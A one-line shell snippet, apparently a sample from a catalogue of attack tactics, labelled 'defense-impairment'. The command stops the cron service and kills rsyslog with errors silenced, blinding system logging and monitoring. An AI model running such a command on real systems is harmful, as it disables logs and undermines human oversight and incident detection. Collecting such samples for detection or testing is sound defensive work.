# tactic: defense-impairment
service cron stop 2>/dev/null; systemctl kill rsyslog 2>/dev/null; true
